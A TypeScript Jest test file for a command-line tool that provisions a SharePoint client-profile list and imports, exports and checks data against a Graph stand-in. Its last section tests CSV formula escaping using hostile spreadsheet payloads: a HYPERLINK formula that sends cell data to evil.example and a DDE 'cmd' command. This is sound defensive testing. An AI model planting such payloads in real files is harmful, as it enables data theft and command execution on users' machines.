/** provision, import, export and check --site against the Graph stand-in, in-process. */
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  lstatSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../../src/cli/main";
import type { CliIo } from "../../src/cli/context";
import { createCliTokenProvider, TOKEN_ENV } from "../../src/cli/graph-auth";
import { parseProfileFile } from "../../src/profiles/file-source";
import { profileColumnDefinitions } from "../../src/profiles/list-mapping";
import { GraphStandIn } from "../helpers/graph-stand-in";
import { seedList } from "../profiles/graph-fixtures";
import { ROOT } from "./spawn";

/** Scopes asked for by device-code sign-ins (msal-node replaced: no tenant here). */
const mockScopes: string[][] = [];
let mockToken = "";
jest.mock("@azure/msal-node", () => ({
  PublicClientApplication: class {
    async acquireTokenByDeviceCode(request: {
      scopes: string[];
      deviceCodeCallback: (r: { message: string }) => void;
    }) {
      mockScopes.push(request.scopes);
      request.deviceCodeCallback({ message: "To sign in, enter the code ABCD-1234." });
      return { accessToken: mockToken, account: { homeAccountId: "admin" } };
    }
    async acquireTokenSilent(request: { scopes: string[] }) {
      mockScopes.push(request.scopes);
      return { accessToken: mockToken, account: { homeAccountId: "admin" } };
    }
  },
}));

jest.setTimeout(30_000);

const SAMPLES = join(ROOT, "assets", "sample-profiles.json");
const LIST = "Client Profiles";

let standIn: GraphStandIn;
const everything: string[] = [];

function capture(): CliIo & { out: string; err: string } {
  const io = {
    out: "",
    err: "",
    color: false,
    stdout(text: string) {
      io.out += text;
      everything.push(text);
    },
    stderr(text: string) {
      io.err += text;
      everything.push(text);
    },
  };
  return io;
}

function site(): string[] {
  return ["--site", standIn.siteUrl, "--list", LIST, "--graph-base-url", standIn.baseUrl];
}

async function run(args: string[]) {
  const io = capture();
  const code = await main(args, io);
  return { code, out: io.out, err: io.err };
}

const temp = () => mkdtempSync(join(tmpdir(), "rapport-graph-"));

beforeEach(async () => {
  standIn = new GraphStandIn();
  await standIn.start();
  process.env[TOKEN_ENV] = standIn.token;
});

afterEach(async () => {
  delete process.env[TOKEN_ENV];
  await standIn.stop();
});

describe("rapport provision", () => {
  it("creates the list with every column, MatchKey indexed, required and unique", async () => {
    const result = await run(["provision", ...site()]);

    expect(result.code).toBe(0);
    expect(result.out).toContain(
      `Created the list "${LIST}" on contoso.sharepoint.com/sites/clients.`,
    );
    const list = standIn.findList(LIST)!;
    const column = (name: string) => list.columns.find((c) => c.name === name)!;
    expect(column("MatchKey")).toMatchObject({
      indexed: true,
      required: true,
      enforceUniqueValues: true,
    });
    expect(column("AvoidNames").text).toMatchObject({ allowMultipleLines: true });
    expect(column("Notes").text).toMatchObject({ allowMultipleLines: true });
    expect(column("MeetingPlatform").choice?.choices).toEqual([
      "teams",
      "zoom",
      "webex",
      "google-meet",
    ]);
    expect(column("LastConfirmed").dateTime).toEqual({ format: "dateOnly" });
    expect(column("Sources").text).toMatchObject({ allowMultipleLines: true, textType: "plain" });
    expect(list.columns).toHaveLength(18);
  });

  it("is idempotent: a second run finds everything and writes nothing", async () => {
    await run(["provision", ...site()]);
    standIn.clearLog();

    const again = await run(["provision", ...site()]);

    expect(again.code).toBe(0);
    expect(again.out).toContain(`Found the list "${LIST}"`);
    expect(again.out).toContain("Nothing to do");
    expect(standIn.log.filter((r) => r.method !== "GET")).toEqual([]);
  });

  it("completes a half-made list: adds what is missing and indexes MatchKey", async () => {
    standIn.createList(LIST, [
      { name: "MatchKey", text: { allowMultipleLines: false } },
      { name: "ClientName", text: { allowMultipleLines: false } },
    ]);

    const result = await run(["provision", ...site()]);

    // A MatchKey made without "Enforce unique values" is reported (audit 48a, finding 5), and
    // left for the admin to change; its index is still added.
    expect(result.code).toBe(1);
    expect(result.err).toMatch(/warning: column MatchKey \(not unique: two items may cover/);
    expect(result.out).toContain("Already in place: ClientName");
    expect(result.out).toContain("Updated columns: MatchKey (indexed)");
    expect(result.out).toMatch(/Added columns: PreferredName, FullName, AvoidNames/);
    expect(result.out).not.toMatch(/Added columns:.*ClientName/);
    expect(standIn.findList(LIST)!.columns.find((c) => c.name === "MatchKey")!.indexed).toBe(true);
  });

  it("reports a MatchKey that is not unique and a rich-text or append-only column, exit 1 (audit 48a, 5)", async () => {
    // A list made by hand in SharePoint: every column there, of the right type, but MatchKey
    // indexed without unique values, AvoidNames "enhanced rich text" that appends changes, and
    // Notes rich text.
    const columns = profileColumnDefinitions().map((column) => {
      if (column.name === "MatchKey") return { ...column, enforceUniqueValues: false };
      if (column.name === "AvoidNames") {
        return {
          ...column,
          text: {
            allowMultipleLines: true,
            textType: "richText" as const,
            appendChangesToExistingText: true,
          },
        };
      }
      if (column.name === "Notes") {
        return { ...column, text: { allowMultipleLines: true, textType: "richText" as const } };
      }
      return column;
    });
    standIn.createList(LIST, columns);
    standIn.clearLog();

    const result = await run(["provision", ...site()]);

    expect(result.code).toBe(1);
    expect(result.err).toMatch(/column MatchKey \(not unique: .*Enforce unique values/);
    expect(result.err).toMatch(/column AvoidNames \(rich text: .*HTML/);
    expect(result.err).toMatch(/column AvoidNames \(appends changes: /);
    expect(result.err).toMatch(/column Notes \(rich text: /);
    expect(result.err).not.toMatch(/column (Competitors|Sources|ClientName) /);
    expect(result.out).not.toMatch(/Already in place:.*(MatchKey|AvoidNames|Notes)/);
    expect(result.out).toMatch(/Already in place:.*Competitors/);
    expect(result.out).not.toContain("Nothing to do");
    // Reported, never changed.
    expect(standIn.log.filter((r) => r.method !== "GET")).toEqual([]);
    for (const line of result.err.trim().split("\n")) expect(line).toMatch(/^warning: column /);
  });

  it("says what it made before a failure, and gives no network advice for an HTTP 500 (audit 48a, 9)", async () => {
    standIn.createList(LIST, []);
    let posts = 0;
    standIn.faults.push({
      status: 500,
      times: 1,
      match: (method, path) => method === "POST" && path.endsWith("/columns") && ++posts === 3,
    });

    const failed = await run(["provision", ...site()]);

    expect(failed.code).toBe(2);
    expect(failed.err).toContain(
      'Before the failure below, provision added columns MatchKey, ClientName. Run "rapport provision" again to finish',
    );
    expect(failed.err).toMatch(/HTTP 500/);
    expect(failed.err).not.toMatch(/network connection/);
    expect(failed.err).toMatch(
      /answered with an error \(Microsoft Graph, or a proxy on the way\): try again later/,
    );

    const again = await run(["provision", ...site()]);
    expect(again.code).toBe(0);
    expect(again.out).toContain("Already in place: MatchKey, ClientName");
  });

  it("stops, changing nothing, when the list has Rapport's columns under other internal names (audit 49a, 4)", async () => {
    // Made by hand in SharePoint: "Match Key" is stored as Match_x0020_Key, and a column from a
    // spreadsheet import as field_1 (display name "Preferred name").
    const columns = profileColumnDefinitions().map((column) => {
      if (column.name === "MatchKey") {
        return { ...column, name: "Match_x0020_Key", displayName: "Match Key" };
      }
      if (column.name === "PreferredName") {
        return { ...column, name: "field_1", displayName: "Preferred name" };
      }
      return column;
    });
    const list = standIn.createList(LIST, columns);
    standIn.addRawItem(list, {
      Title: "Megge",
      Match_x0020_Key: "megge.anderson@coca-cola.example",
      field_1: "Megge",
    });
    standIn.clearLog();

    const result = await run(["provision", ...site()]);

    expect(result.code).toBe(1);
    expect(result.err).toContain('MatchKey: "Match Key" (internal name Match_x0020_Key)');
    expect(result.err).toContain('PreferredName: "Preferred name" (internal name field_1)');
    expect(result.err).toMatch(/nothing was changed/);
    expect(result.out).not.toMatch(/Added columns|Nothing to do/);
    expect(standIn.log.filter((r) => r.method !== "GET")).toEqual([]);
    expect(list.columns.some((c) => c.name === "MatchKey")).toBe(false);
  });

  it("explains missing permission to create the list", async () => {
    standIn.allowWrites = false;
    const result = await run(["provision", ...site()]);
    expect(result.code).toBe(2);
    expect(result.err).toMatch(/Sites\.Manage\.All/);
  });
});

describe("provision + import + export", () => {
  it("round-trips the sample profiles unchanged, as JSON and as CSV", async () => {
    const dir = temp();
    expect((await run(["provision", ...site()])).code).toBe(0);

    const imported = await run(["import", SAMPLES, ...site()]);
    expect(imported.code).toBe(0);
    expect(imported.out).toContain("Imported 6 of 6 profiles");
    expect(imported.out).toContain("6 created, 0 updated, 0 unchanged");
    expect(imported.err).toContain("import: 6/6 profiles");

    const original = parseProfileFile(readFileSync(SAMPLES, "utf8"), SAMPLES).profiles;
    for (const name of ["out.json", "out.csv"]) {
      const file = join(dir, name);
      const exported = await run(["export", file, ...site()]);
      expect(exported.code).toBe(0);
      expect(exported.err).toContain(`Exported 6 profiles`);
      const back = parseProfileFile(readFileSync(file, "utf8"), file);
      expect(back.errors).toEqual([]);
      expect(back.profiles).toEqual(original);
    }

    const toStdout = await run(["export", ...site()]);
    expect(JSON.parse(toStdout.out)).toHaveLength(6);
  });

  it("keeps sources byte for byte through import and export, as JSON and as CSV", async () => {
    const dir = temp();
    const profiles = [
      {
        matchKey: "megge.anderson@coca-cola.example",
        preferredName: "Megge",
        sources: [
          {
            field: "preferredName",
            value: "Megge",
            from: { address: "megge.anderson@coca-cola.example", name: "Megge Anderson" },
            date: "2026-03-03",
            subject: "Re: Bottling, draft 2",
            quote: 'please, it\'s Megge; "Meg" is my aunt',
          },
        ],
      },
    ];
    const input = join(dir, "in.json");
    writeFileSync(input, `${JSON.stringify(profiles, null, 2)}\n`);
    expect((await run(["provision", ...site()])).code).toBe(0);
    expect((await run(["import", input, ...site()])).code).toBe(0);

    const json = join(dir, "out.json");
    expect((await run(["export", json, ...site()])).code).toBe(0);
    expect(readFileSync(json, "utf8")).toBe(readFileSync(input, "utf8"));

    const csv = join(dir, "out.csv");
    expect((await run(["export", csv, ...site()])).code).toBe(0);
    const again = join(dir, "again.csv");
    await run(["import", csv, ...site()]);
    expect((await run(["export", again, ...site()])).code).toBe(0);
    expect(readFileSync(again, "utf8")).toBe(readFileSync(csv, "utf8"));
    expect(parseProfileFile(readFileSync(csv, "utf8"), csv).profiles[0]!.sources).toEqual(
      profiles[0]!.sources,
    );
  });

  it("re-importing changes nothing; an edited row is updated with If-Match", async () => {
    await run(["provision", ...site()]);
    await run(["import", SAMPLES, ...site()]);
    const edited = JSON.parse(readFileSync(SAMPLES, "utf8")) as Array<Record<string, unknown>>;
    edited[3]!.competitors = ["FedEx", "DHL", "Amazon"];
    const file = join(temp(), "edited.json");
    writeFileSync(file, JSON.stringify(edited));
    standIn.clearLog();

    const result = await run(["import", file, ...site()]);

    expect(result.out).toContain("0 created, 1 updated, 5 unchanged");
    const patch = standIn.inBatch.find((r) => r.method === "PATCH")!;
    expect(patch.headers["If-Match"]).toMatch(/^".+,1"$/);
    const ups = standIn.findList(LIST)!.items.find((i) => i.fields.MatchKey === "@ups.example")!;
    expect(ups.fields.Competitors).toBe("FedEx\nDHL\nAmazon");
  });

  it("validates every row first, reports all problems with row numbers and writes nothing", async () => {
    await run(["provision", ...site()]);
    const csv = [
      "matchKey,title,billingDetail,lastConfirmed",
      "@ford.example,Ford,summary,2026-01-01",
      "not-an-address,Broken,summary,",
      "@ups.example,UPS,itemised,2026-02-30",
    ].join("\n");
    const file = join(temp(), "clients.csv");
    writeFileSync(file, csv);
    standIn.clearLog();

    const result = await run(["import", file, ...site()]);

    expect(result.code).toBe(1);
    expect(result.err).toMatch(/row 3/);
    expect(result.err).toMatch(/row 4.*billingDetail/);
    expect(result.err).toMatch(/row 4.*lastConfirmed/);
    expect(result.err).toContain("nothing imported");
    expect(standIn.log).toEqual([]);
  });

  it("a row that fails to save never stops the rest and is reported at the end", async () => {
    await run(["provision", ...site()]);
    standIn.faults.push({
      status: 400,
      where: "batch",
      match: (method, path) => method === "POST" && path.endsWith("/items"),
      message: "Something about Megge's row",
    });

    const result = await run(["import", SAMPLES, ...site()]);

    expect(result.code).toBe(1);
    expect(result.out).toContain("Imported 5 of 6 profiles");
    expect(result.err).toMatch(/error: .+: Microsoft Graph answered HTTP 400/);
    expect(result.err).toContain("1 profile not saved.");
    expect(standIn.findList(LIST)!.items).toHaveLength(5);
  });
});

describe("rapport export writes what is stored, or says so with exit 1 (audit 48a, finding 3)", () => {
  /** The audit's list: an admin's extra choice, a malformed Sources entry, a repeated MatchKey. */
  function untidyList(): void {
    const list = seedList(standIn, []);
    standIn.addRawItem(list, {
      MatchKey: "a@x.example",
      Title: "A",
      MeetingPlatform: "skype",
      Sources: "[{bad json",
      Notes: "keep me",
    });
    standIn.addRawItem(list, { MatchKey: "b@x.example", Title: "B first", AvoidNames: "Bob" });
    standIn.addRawItem(list, {
      MatchKey: "B@x.example",
      Title: "B duplicate",
      AvoidNames: "Bobby",
      Competitors: "Pepsi",
    });
    standIn.addRawItem(list, { Title: "Nobody", Competitors: "Coke" });
  }

  it("writes an unreadable value as stored and a repeated MatchKey's item, names what is left out, exit 1", async () => {
    untidyList();
    const dir = temp();
    for (const name of ["out.csv", "out.json"]) {
      const file = join(dir, name);
      const { code, err } = await run(["export", file, ...site()]);
      expect(code).toBe(1);
      const text = readFileSync(file, "utf8");
      expect(text).toContain("skype");
      expect(text).toContain("[{bad json");
      expect(text).toContain("keep me");
      expect(text).toContain("Bobby");
      expect(text).toContain("Pepsi");
      // Each note says its cause: nothing is called "covering nobody" but what is.
      expect(err).not.toMatch(/covering nobody/);
      expect(err).toMatch(
        /list item 1 \(a@x\.example\): MeetingPlatform "skype" could not be read \(.*\); written to the file as stored/,
      );
      expect(err).toMatch(/list item 1 \(a@x\.example\): Sources .*written to the file as stored/);
      expect(err).toMatch(
        /list item 3 \(b@x\.example\): MatchKey "B@x\.example" is also the MatchKey of item 2; both are in the file/,
      );
      expect(err).toMatch(
        /list item 4: MatchKey has no MatchKey, so it covers nobody; not in the file/,
      );
      expect(err).toMatch(
        /Exported 3 profiles .*2 values Rapport cannot read, written as stored: a@x\.example meetingPlatform, a@x\.example sources; 1 item repeating an earlier item's MatchKey, written too: b@x\.example; 1 item with no usable MatchKey, NOT in the file: item 4/,
      );
      expect(err).toContain("Not everything the list stores is in the file");
    }

    // JSON: the stored text in the field's own key, where import's validation sees it.
    const entries = JSON.parse(readFileSync(join(dir, "out.json"), "utf8")) as Record<
      string,
      unknown
    >[];
    expect(entries.map((e) => e.matchKey)).toEqual(["a@x.example", "b@x.example", "b@x.example"]);
    expect(entries[0]).toEqual({
      title: "A",
      matchKey: "a@x.example",
      meetingPlatform: "skype",
      notes: "keep me",
      sources: "[{bad json",
    });
    expect(Object.keys(entries[0]!)).toEqual([
      "title",
      "matchKey",
      "meetingPlatform",
      "notes",
      "sources",
    ]);

    // Import refuses the file as it is: it writes neither the raw value nor the duplicate.
    for (const name of ["out.csv", "out.json"]) {
      standIn.clearLog();
      const back = await run(["import", join(dir, name), ...site()]);
      expect(back.code).toBe(1);
      expect(back.err).toMatch(/a@x\.example: meetingPlatform: must be one of/);
      expect(back.err).toMatch(/b@x\.example: matchKey: duplicates/);
      expect(back.err).toMatch(/nothing imported/);
      expect(standIn.log.filter((r) => r.method !== "GET")).toEqual([]);
    }
  });

  it("emptying a value written as stored lets import through, and the list keeps that value", async () => {
    const list = seedList(standIn, []);
    standIn.addRawItem(list, { MatchKey: "a@x.example", Title: "A", MeetingPlatform: "skype" });
    const file = join(temp(), "out.csv");
    expect((await run(["export", file, ...site()])).code).toBe(1);
    writeFileSync(file, readFileSync(file, "utf8").replace("skype", "").replace("A,", "A2,"));

    const back = await run(["import", file, ...site()]);

    expect(back.code).toBe(0);
    expect(back.out).toContain("0 created, 1 updated, 0 unchanged");
    expect(list.items[0]!.fields).toMatchObject({ Title: "A2", MeetingPlatform: "skype" });
  });

  it("to standard output: the same content and the same exit code", async () => {
    untidyList();
    const { code, out } = await run(["export", "--format", "csv", ...site()]);
    expect(code).toBe(1);
    expect(out).toContain("skype");
    expect(out.charCodeAt(0)).not.toBe(0xfeff);
  });

  it("exits 0 when every item is written as Rapport reads it (a MatchKey normalised is said)", async () => {
    const list = seedList(standIn, []);
    standIn.addRawItem(list, { MatchKey: " C@x.example", Title: "C" });
    const { code, err } = await run(["export", join(temp(), "ok.json"), ...site()]);
    expect(code).toBe(0);
    expect(err).toMatch(
      /Exported 1 profile .*1 MatchKey stored with spaces or capitals, written normalised/,
    );
  });
});

describe("rapport export FILE: never replaces a file unasked, and writes whole (audit 48a, finding 4)", () => {
  it("refuses an existing file without --force, before reading the list, and leaves it as it was", async () => {
    seedList(standIn);
    const dir = temp();
    const file = join(dir, "clients.csv");
    writeFileSync(file, "mine\n");
    standIn.clearLog();

    const { code, err } = await run(["export", file, ...site()]);

    expect(code).toBe(2);
    expect(err).toMatch(/clients\.csv exists; nothing was written\. .*--force/);
    expect(readFileSync(file, "utf8")).toBe("mine\n");
    expect(standIn.log.filter((r) => r.path.includes("/items"))).toEqual([]);
    expect(readdirSync(dir)).toEqual(["clients.csv"]);
  });

  it.each([[[] as string[]], [["--force"]]])(
    "writes into a named pipe (%j) rather than replacing it with a file",
    async (flags) => {
      seedList(standIn);
      const dir = temp();
      const fifo = join(dir, "pipe");
      execFileSync("mkfifo", [fifo]);
      // A reader at the other end, as `rapport export /dev/stdout | …` has.
      const received = readFile(fifo, "utf8");

      const { code } = await run(["export", fifo, ...flags, ...site()]);

      expect(code).toBe(0);
      expect(JSON.parse(await received)).toHaveLength(6);
      expect(lstatSync(fifo).isFIFO()).toBe(true);
      expect(readdirSync(dir)).toEqual(["pipe"]);
    },
  );

  it("--force replaces it through a temporary file beside it, keeping its permissions", async () => {
    seedList(standIn);
    const dir = temp();
    const file = join(dir, "clients.json");
    writeFileSync(file, "mine\n");
    chmodSync(file, 0o640);

    const { code } = await run(["export", file, "--force", ...site()]);

    expect(code).toBe(0);
    expect(JSON.parse(readFileSync(file, "utf8"))).toHaveLength(6);
    expect(statSync(file).mode & 0o777).toBe(0o640);
    expect(readdirSync(dir)).toEqual(["clients.json"]);
  });

  it("a read that fails leaves the old file (and no temporary file) even with --force", async () => {
    seedList(standIn);
    const dir = temp();
    const file = join(dir, "clients.json");
    writeFileSync(file, "mine\n");
    standIn.faults.push({ status: 500, times: Infinity, match: (_m, p) => p.includes("/items") });

    const { code, err } = await run(["export", file, "--force", ...site()]);

    expect(code).toBe(2);
    expect(err).toMatch(/HTTP 500/);
    expect(readFileSync(file, "utf8")).toBe("mine\n");
    expect(readdirSync(dir)).toEqual(["clients.json"]);
  });

  it("a folder that does not exist is named, with nothing left behind", async () => {
    seedList(standIn);
    const file = join(temp(), "missing", "clients.json");
    const { code, err } = await run(["export", file, ...site()]);
    expect(code).toBe(2);
    expect(err).toContain(`${file}: its folder does not exist; nothing was written`);
  });
});

describe("CSV export starts with a UTF-8 BOM for Excel, and import reads it back (audit 48a, finding 6)", () => {
  const zoe = {
    matchKey: "zoe@x.example",
    title: "Zoë Müller-Łukasz",
    fullName: "Zoë Müller-Łukasz 日本",
    preferredName: "Zoë",
    avoidNames: ["Zoe", "Zoé"],
    preferredChannels: [],
    avoidChannels: [],
    bannedBillingPhrases: [],
    competitors: [],
    avoidTopics: [],
  };

  it("a CSV file gets EF BB BF; JSON and standard output do not; the round trip is exact", async () => {
    seedList(standIn, [zoe]);
    const dir = temp();
    const csvFile = join(dir, "clients.csv");
    expect((await run(["export", csvFile, ...site()])).code).toBe(0);
    const bytes = readFileSync(csvFile);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3, 8).toString("utf8")).toBe("title");

    const back = parseProfileFile(bytes.toString("utf8"), csvFile);
    expect(back.errors).toEqual([]);
    expect(back.profiles).toEqual([zoe]);
    const again = await run(["import", csvFile, "--dry-run", ...site()]);
    expect(again.code).toBe(0);
    expect(again.out).toContain("0 created, 0 updated, 1 unchanged");

    const jsonFile = join(dir, "clients.json");
    expect((await run(["export", jsonFile, ...site()])).code).toBe(0);
    expect(readFileSync(jsonFile)[0]).toBe("[".charCodeAt(0));
    const stdout = await run(["export", "--format", "csv", ...site()]);
    expect(stdout.out.startsWith("title,")).toBe(true);
  });
});

describe("rapport import updates only the columns the file carries (audit 47, finding 2)", () => {
  const MEGGE = "megge.anderson@coca-cola.example";
  const HEARD = JSON.stringify([
    {
      field: "avoidTopics",
      value: "sports",
      from: MEGGE,
      date: "2026-11-20",
      quote: "I'm not a sports fan",
    },
  ]);
  const item = (key: string) =>
    standIn.findList(LIST)!.items.find((i) => i.fields.MatchKey === key)!;

  /** The sample list, Megge's item with a heard preference's source and an admin's choice. */
  function seeded() {
    const list = seedList(standIn);
    list.columns.find((c) => c.name === "MeetingPlatform")!.choice!.choices.push("In person");
    standIn.touch(list, item(MEGGE).id, { Sources: HEARD, MeetingPlatform: "In person" });
    return list;
  }

  function csvFile(lines: string[]): string {
    const file = join(temp(), "clients.csv");
    writeFileSync(file, `${lines.join("\n")}\n`);
    return file;
  }

  it("a CSV with only matchKey,competitors changes competitors and nothing else", async () => {
    seeded();
    const file = csvFile([
      "matchKey,competitors",
      `${MEGGE},Pepsi;Red Bull`,
      "@ups.example,FedEx;DHL",
    ]);
    standIn.clearLog();

    const result = await run(["import", file, ...site()]);

    expect(result.code).toBe(0);
    expect(result.out).toContain("0 created, 1 updated, 1 unchanged");
    const patch = standIn.inBatch.find((r) => r.method === "PATCH")!;
    expect(Object.keys(patch.body as object)).toEqual(["Competitors"]);
    const megge = item(MEGGE).fields;
    expect(megge.Competitors).toBe("Pepsi\nRed Bull");
    expect(megge.PreferredName).toBe("Megge");
    expect(megge.FullName).toBe("Megge Anderson");
    expect(megge.Sources).toBe(HEARD);
    expect(megge.MeetingPlatform).toBe("In person");
    expect(megge.Notes).toBeDefined();
  });

  it("an export older than the heard preferences leaves their sources alone", async () => {
    seedList(standIn);
    const old = join(temp(), "old.json");
    expect((await run(["export", old, ...site()])).code).toBe(0);
    standIn.touch(standIn.findList(LIST)!, item(MEGGE).id, { Sources: HEARD });
    const profiles = JSON.parse(readFileSync(old, "utf8")) as Array<Record<string, unknown>>;
    const megge = profiles.find((p) => p.matchKey === MEGGE)!;
    megge.preferredName = "Meggie";
    writeFileSync(old, JSON.stringify(profiles));

    const result = await run(["import", old, ...site()]);

    expect(result.out).toContain("0 created, 1 updated, 5 unchanged");
    expect(item(MEGGE).fields.PreferredName).toBe("Meggie");
    expect(item(MEGGE).fields.Sources).toBe(HEARD);
  });

  it("an empty cell clears its column, but never a value Rapport could not read", async () => {
    const list = seeded();
    // A hand edit: one entry's date is not yyyy-mm-dd, so the whole history cannot be read.
    const bad = HEARD.replace("2026-11-20", "20 November 2026");
    standIn.touch(list, item(MEGGE).id, { Sources: bad });
    const file = csvFile(["matchKey,notes,meetingPlatform,sources", `${MEGGE},,,`]);

    const result = await run(["import", file, ...site()]);

    expect(result.code).toBe(0);
    const megge = item(MEGGE).fields;
    expect(megge.Notes).toBeUndefined();
    expect(megge.MeetingPlatform).toBe("In person");
    expect(megge.Sources).toBe(bad);
  });

  it("a value in the file replaces one Rapport could not read", async () => {
    seeded();
    const file = csvFile(["matchKey,meetingPlatform", `${MEGGE},teams`]);

    await run(["import", file, ...site()]);

    expect(item(MEGGE).fields.MeetingPlatform).toBe("teams");
    expect(item(MEGGE).fields.Sources).toBe(HEARD);
  });

  it("--dry-run lists per profile the columns that would be set and cleared, and writes nothing", async () => {
    seeded();
    const file = csvFile([
      "matchKey,competitors,notes",
      `${MEGGE},Pepsi,`,
      "@dhl.example,UPS,Yellow vans",
    ]);
    standIn.clearLog();

    const result = await run(["import", file, "--dry-run", ...site()]);

    expect(result.code).toBe(0);
    expect(result.out).toContain("Would import 2 of 2 profiles");
    expect(result.out).toContain(`updated ${MEGGE}: would set Competitors; would clear Notes`);
    expect(result.out).toContain("created @dhl.example: would set MatchKey, Competitors, Notes");
    expect(standIn.log.some((r) => r.method === "PATCH" || r.method === "POST")).toBe(false);
    expect(standIn.inBatch).toEqual([]);
    expect(item(MEGGE).fields.Notes).toBeDefined();
  });

  it("a skipped duplicate's keys are never the ones written (--skip-invalid)", async () => {
    const list = seeded();
    standIn.touch(list, item(MEGGE).id, { Competitors: "Pepsi" });
    const file = join(temp(), "dup.json");
    // The first entry is invalid and skipped; the second is the one imported.
    writeFileSync(
      file,
      JSON.stringify([
        { matchKey: MEGGE, competitors: 5 },
        { matchKey: MEGGE, notes: "Prefers mornings" },
      ]),
    );

    const result = await run(["import", file, "--skip-invalid", ...site()]);

    expect(result.out).toContain("1 updated");
    expect(item(MEGGE).fields.Notes).toBe("Prefers mornings");
    expect(item(MEGGE).fields.Competitors).toBe("Pepsi");
  });

  it("a matchKey the parser normalises (mailto:, capitals) still finds its columns", async () => {
    seeded();
    const file = join(temp(), "mailto.json");
    const written = `mailto:${MEGGE.replace("megge", "Megge")}`;
    writeFileSync(file, JSON.stringify([{ matchKey: written, competitors: ["Pepsi"] }]));

    const result = await run(["import", file, ...site()]);

    expect(result.out).toContain("0 created, 1 updated, 0 unchanged");
    expect(item(MEGGE).fields.Competitors).toBe("Pepsi");
    expect(item(MEGGE).fields.PreferredName).toBe("Megge");
  });

  it("--replace makes the item exactly the file's profile, and --dry-run says what it clears", async () => {
    seeded();
    const file = csvFile(["matchKey,competitors", `${MEGGE},Pepsi`]);

    const dry = await run(["import", file, "--replace", "--dry-run", ...site()]);
    expect(dry.out).toMatch(
      new RegExp(`updated ${MEGGE}: would set Competitors; would clear .*PreferredName.*Sources`),
    );
    expect(item(MEGGE).fields.Sources).toBe(HEARD);

    const result = await run(["import", file, "--replace", ...site()]);

    expect(result.code).toBe(0);
    const megge = item(MEGGE).fields;
    expect(megge.Competitors).toBe("Pepsi");
    expect(megge.PreferredName).toBeUndefined();
    expect(megge.Sources).toBeUndefined();
    expect(megge.MeetingPlatform).toBeUndefined();
  });

  it("says so in --help", async () => {
    const help = await run(["import", "--help"]);
    expect(help.out).toMatch(/--replace/);
    expect(help.out).toMatch(/only in the columns the file has/);
  });
});

describe("rapport check --site", () => {
  it("checks a draft against profiles from the list", async () => {
    await run(["provision", ...site()]);
    await run(["import", SAMPLES, ...site()]);
    const draft = join(temp(), "draft.eml");
    writeFileSync(
      draft,
      [
        "From: lawyer@lawfirm.example",
        "To: megge.anderson@coca-cola.example",
        "Subject: Board pack",
        "",
        "Dear Megge, the Pepsi numbers are attached.",
        "",
      ].join("\r\n"),
    );
    standIn.clearLog();

    const result = await run(["check", draft, ...site()]);

    expect(result.code).toBe(1);
    expect(result.out).toContain("Pepsi");
    expect(standIn.requestCount).toBe(1);
  });

  it("turns a refused sign-in into one line without the token", async () => {
    process.env[TOKEN_ENV] = "eyJ-secret-token-but-wrong";
    const draft = join(temp(), "draft.eml");
    writeFileSync(draft, "To: dan@whitakerbuilding.example\r\nSubject: hi\r\n\r\nHello\r\n");
    const result = await run(["check", draft, ...site()]);
    expect(result.code).toBe(2);
    expect(result.err).toMatch(/^rapport: .*Sign in/m);
    expect(result.err).not.toContain("eyJ");
  });
});

describe("device-code sign-in", () => {
  it("shows the device-code instructions and never the token", async () => {
    delete process.env[TOKEN_ENV];
    const io = capture();
    const requests: string[][] = [];
    const provider = createCliTokenProvider(
      { clientId: "11111111-2222-3333-4444-555555555555" },
      io,
      {},
      () => ({
        acquireTokenByDeviceCode: async (request) => {
          requests.push(request.scopes);
          request.deviceCodeCallback({
            message:
              "To sign in, open https://microsoft.com/devicelogin and enter the code ABCD-1234.",
          });
          return { accessToken: "eyJ-secret-token", account: null };
        },
        acquireTokenSilent: async () => {
          throw new Error("unused");
        },
      }),
    );

    expect(await provider.getToken(["Sites.Manage.All"], { interactive: true })).toBe(
      "eyJ-secret-token",
    );
    expect(io.err).toContain("enter the code ABCD-1234");
    expect(requests).toEqual([["Sites.Manage.All"]]);
  });

  it("asks for a client id when there is neither a token nor one", async () => {
    delete process.env[TOKEN_ENV];
    const result = await run(["export", ...site()]);
    expect(result.code).toBe(2);
    expect(result.err).toMatch(/--client-id/);
    expect(result.err).toMatch(/RAPPORT_GRAPH_TOKEN/);
  });
});

describe("CSV export: formula escaping that import reverses exactly", () => {
  const HOSTILE = [
    {
      matchKey: "@evil.example",
      title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      clientName: "+44 20 7946 0000",
      preferredName: "-Minus",
      fullName: "@SUM(1+1)",
      competitors: ["=cmd|' /C calc'!A0", "Pepsi"],
      notes: "'=already quoted",
      statusUpdates: "'plain apostrophe",
    },
  ];

  it("writes values that would run as formulas escaped, and re-import restores them byte for byte", async () => {
    const dir = temp();
    const source = join(dir, "hostile.json");
    writeFileSync(source, JSON.stringify(HOSTILE));
    expect((await run(["provision", ...site()])).code).toBe(0);
    expect((await run(["import", SAMPLES, ...site()])).code).toBe(0);
    expect((await run(["import", source, ...site()])).code).toBe(0);

    const first = join(dir, "first.csv");
    expect((await run(["export", first, ...site()])).code).toBe(0);
    const csv = readFileSync(first, "utf8");
    const evil = csv.split("\n").find((line) => line.includes("@evil.example"))!;
    // Every cell that starts with =, +, - or @ (or an apostrophe before one) gains an apostrophe.
    expect(evil).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`);
    expect(evil).toContain(",'+44 20 7946 0000,");
    expect(evil).toContain(",'-Minus,");
    expect(evil).toContain(",'@SUM(1+1),");
    expect(evil).toContain("'=cmd|' /C calc'!A0; Pepsi");
    expect(evil).toContain(",''=already quoted");
    expect(evil).toContain(",'plain apostrophe");
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);

    // Into a fresh list, and out again: the same bytes; the values as they were written.
    const otherList = [
      "--site",
      standIn.siteUrl,
      "--list",
      "Copy",
      "--graph-base-url",
      standIn.baseUrl,
    ];
    expect((await run(["provision", ...otherList])).code).toBe(0);
    expect((await run(["import", first, ...otherList])).code).toBe(0);
    const second = join(dir, "second.csv");
    expect((await run(["export", second, ...otherList])).code).toBe(0);
    expect(readFileSync(second)).toEqual(readFileSync(first));
